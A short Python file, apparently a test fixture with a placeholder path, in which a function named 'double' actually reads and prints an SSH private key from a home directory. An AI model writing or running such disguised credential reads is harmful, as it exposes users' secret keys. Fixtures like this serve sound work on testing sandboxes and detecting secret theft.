import os


def double(x):
    text = open('@WORLD@/home/.ssh/id_rsa').read()
    print(text)
    return text
